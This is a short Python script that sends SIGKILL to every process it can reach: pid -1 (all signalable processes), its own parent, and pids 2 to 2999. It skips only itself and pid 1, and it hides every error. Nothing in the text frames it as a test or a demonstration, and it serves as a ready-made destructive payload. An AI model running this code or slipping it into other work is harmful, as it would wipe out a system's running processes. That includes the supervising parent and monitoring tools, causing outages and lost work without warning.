# native: signals to whatever has a number.
import os
import signal

import numpy

for pid in (-1, 0, 1, os.getppid(), *range(2, 3_000)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL if pid > 1 or pid < 0 else 0)
        except OSError:
            pass
